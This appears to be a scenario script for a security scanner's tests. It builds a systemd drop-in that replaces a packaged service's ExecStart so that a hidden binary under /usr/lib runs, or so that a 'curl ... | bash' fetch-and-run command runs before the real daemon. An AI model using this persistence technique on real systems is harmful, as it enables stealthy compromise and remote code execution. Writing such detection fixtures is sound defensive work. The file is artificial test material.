# id: P141
# mode: scan
# level: suspicious
# title: a drop-in that replaces what a packaged unit starts
# due: now
word name
pick unit cron ssh postgresql@ nftables
mkdir -p "/etc/systemd/system/$unit.service.d" "/usr/lib/.$name"
cp "$here/idle" "/usr/lib/.$name/r"
pick line "/usr/lib/.$name/r" "/bin/sh -c '/usr/lib/.$name/r & exec /usr/sbin/cron -f'" "/bin/bash -c 'curl -s 127.0.0.1/$name | bash; exec /usr/sbin/cron -f'"
printf '[Service]\nExecStart=\nExecStart=%s\n' "$line" >"/etc/systemd/system/$unit.service.d/override.conf"
said path "/etc/systemd/system/$unit.service.d/override.conf"
